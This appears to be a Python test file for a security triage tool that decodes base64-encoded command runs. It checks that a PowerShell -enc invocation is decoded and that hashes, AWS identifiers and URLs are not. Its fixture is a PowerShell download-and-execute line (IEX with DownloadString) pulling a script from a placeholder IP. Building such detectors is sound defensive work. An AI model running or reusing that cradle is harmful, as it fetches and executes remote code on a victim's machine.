"""What encoded runs of a text say."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from triage.domain.encodings import decoded_texts

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-8"])
def test_an_encoded_command_is_read(encoding: str) -> None:
    """As PowerShell takes it, in UTF-16, and as a shell pipes it."""
    run = base64.b64encode(COMMAND.encode(encoding)).decode()
    assert list(decoded_texts(f"powershell.exe -nop -enc {run}")) == [COMMAND]


@pytest.mark.parametrize(
    "text",
    [
        "d41d8cd98f00b204e9800998ecf8427e",
        "AROAEXAMPLEEXAMPLEEXA:session-20261120",
        "arn:aws:iam::111122223333:role/deployment-service-of-payments",
        "git clone https://example.com/a/b",
        "",
    ],
)
def test_ids_digests_and_names_say_nothing(text: str) -> None:
    """They are of the same letters and decode to no text."""
    assert list(decoded_texts(text)) == []


@given(st.text(max_size=200))
def test_whatever_a_text_holds_its_runs_are_printable(text: str) -> None:
    """Nothing unprintable comes out, and nothing raises."""
    assert all(plain.translate({10: None, 13: None, 9: None}).isprintable() for plain in decoded_texts(text))
